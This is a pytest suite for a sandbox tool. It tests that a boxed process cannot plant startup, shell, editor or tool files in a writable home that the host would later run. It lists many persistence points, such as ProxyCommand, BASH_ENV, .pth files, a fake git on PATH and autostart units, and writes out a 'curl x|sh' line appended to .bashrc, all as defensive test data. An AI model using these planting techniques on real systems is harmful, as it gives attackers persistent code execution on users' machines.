"""Round four, family 2: a ``[sandbox] writable`` folder that is or holds a home. The
home's top is read-only in the box and only its entries without a dot are written
again, so nothing the host reads at a login, a shell, an editor or a tool's start can be
made there -- by mechanism, not by a list. Each attempt is made from inside the real
box; the host then runs python3 and git from that home for real."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers.paths import REPO

pytestmark = pytest.mark.isolation

CLI = [sys.executable, "-m", "launchers"]
HOST_PYTHON = "/usr/bin/python3"

# What the red team made in a writable home, and the host then ran; the three the docs
# admitted; and what no table names (an editor's config, a hidden path missing at the
# start), each under the rule rather than a row.
PLANTED = (
    ".ssh/config",                          # ProxyCommand (~/.ssh hidden only if there)
    ".npmrc",                               # script-shell
    ".inputrc",                             # a macro bound to Enter
    ".tmux.conf",                           # run-shell
    ".ipython/profile_default/startup/0.py",
    ".cargo/config.toml",                   # build.rustc-wrapper
    ".bash_env",                            # what BASH_ENV names
    ".shinit",                              # what ENV names
    ".zdot/.zshenv",                        # in the folder ZDOTDIR names
    ".config/environment.d/90-preload.conf",
    ".config/systemd/user/default.target.wants/x.service",
    ".config/autostart/x.desktop",
    ".config/pip/pip.conf",                 # find-links into the home
    ".local/bin/git",
    ".vimrc",
    ".config/nvim/init.lua",
    ".aws/credentials",                     # a hidden path missing at the start
    "bin/git",                              # on PATH by Debian's ~/.profile
    "node_modules/left-pad/index.js",       # Node's last folder of modules
    "newtop",                               # nothing new at the home's top
)


def user_site(home: Path) -> str:
    out = subprocess.run([HOST_PYTHON, "-c", "import site; print(site.getusersitepackages())"],
                         env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
                         capture_output=True, text=True, check=True)
    return out.stdout.strip()


def make_home(home: Path, writable: str) -> dict[str, str]:
    """A home with the toolkit's config naming ``writable``, a folder and a file of the
    user's at its top, and the environment of a session started from it."""
    (home / ".config" / "harness").mkdir(parents=True)
    (home / ".config" / "harness" / "config.toml").write_text(
        f"[sandbox]\nwritable = [{json.dumps(writable)}]\n")
    (home / "work").mkdir()
    (home / "notes.txt").write_text("mine\n")
    (home / "proj").mkdir()
    env = {k: v for k, v in os.environ.items()
           if k not in ("HARNESS_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME")}
    env["HOME"] = str(home)
    return env


def boxed(env: dict[str, str], project: Path, script: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, "run", "--project", str(project), "--", "sh", "-c", script],
                          env=env, cwd=REPO, capture_output=True, text=True, timeout=120,
                          check=False)


def plant_all(home: Path, names: tuple[str, ...]) -> str:
    """A script that tries to make each name, one line per name with its status."""
    lines = []
    for name in names:
        path = home / name
        lines.append(f"mkdir -p {path.parent} 2>/dev/null; "
                     f"printf 'planted' > {path} 2>/dev/null; echo \"{name} $?\"")
    return "\n".join(lines)


@pytest.mark.parametrize("shape", ["is a home", "holds a home"])
def test_nothing_the_host_reads_can_be_made_in_a_writable_home(tmp_path: Path,
                                                               shape: str) -> None:
    if shape == "is a home":
        home = tmp_path / "home"
        home.mkdir()
        env = make_home(home, "~")
    else:
        home = tmp_path / "homes" / "someone"
        home.mkdir(parents=True)
        env = make_home(home, str(tmp_path / "homes"))
    site = Path(user_site(home))
    names = (*PLANTED, str(site.relative_to(home) / "planted.pth"),
             str(site.relative_to(home) / "usercustomize.py"))
    r = boxed(env, home / "proj", plant_all(home, names))
    assert r.returncode == 0, r
    made = [line.rsplit(" ", 1)[0] for line in r.stdout.splitlines() if line.endswith(" 0")]
    assert made == [], f"the box made {made}"
    for name in names:
        assert not os.path.lexists(home / name), name


def test_the_host_runs_nothing_the_box_planted_for_python_and_git(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = make_home(home, "~")
    site = Path(user_site(home))
    marker = tmp_path / "host-ran"
    script = (f"mkdir -p {site} {home}/.local/bin; "
              f"echo 'import os; open(\"{marker}\", \"w\")' > {site}/planted.pth; "
              f"printf '#!/bin/sh\\necho planted\\n' > {home}/.local/bin/git; "
              f"chmod +x {home}/.local/bin/git; true")
    boxed(env, home / "proj", script)
    host = {"HOME": str(home), "PATH": f"{home}/.local/bin:/usr/bin:/bin"}
    subprocess.run([HOST_PYTHON, "-c", "pass"], env=host, check=True)
    assert not marker.exists()
    git = subprocess.run(["git", "--version"], env=host, capture_output=True, text=True,
                         check=True)
    assert "planted" not in git.stdout


def test_what_the_home_held_without_a_dot_stays_writable(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = make_home(home, "~")
    r = boxed(env, home / "proj",
              f"echo made > {home}/work/new && echo more >> {home}/notes.txt && "
              f"mkdir {home}/work/sub && echo proj > {home}/proj/file && "
              f"! mv {home}/work {home}/moved 2>/dev/null && ! touch {home}/.x 2>/dev/null")
    assert r.returncode == 0, r
    assert (home / "work" / "new").read_text() == "made\n"
    assert (home / "notes.txt").read_text() == "mine\nmore\n"
    assert (home / "proj" / "file").read_text() == "proj\n"


def test_a_dot_entry_the_home_held_is_read_only_with_all_below(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = make_home(home, "~")
    (home / ".cache").mkdir()
    (home / ".bashrc").write_text("# mine\n")
    r = boxed(env, home / "proj",
              f"echo x > {home}/.cache/poison; echo 'curl x|sh' >> {home}/.bashrc; "
              f"mv {home}/.config {home}/.c2;"
              f"ls -a {home}/.config")
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (home / ".cache" / "poison").exists()
    assert (home / ".config" / "harness" / "config.toml").exists()
    assert not (home / ".c2").exists(), r
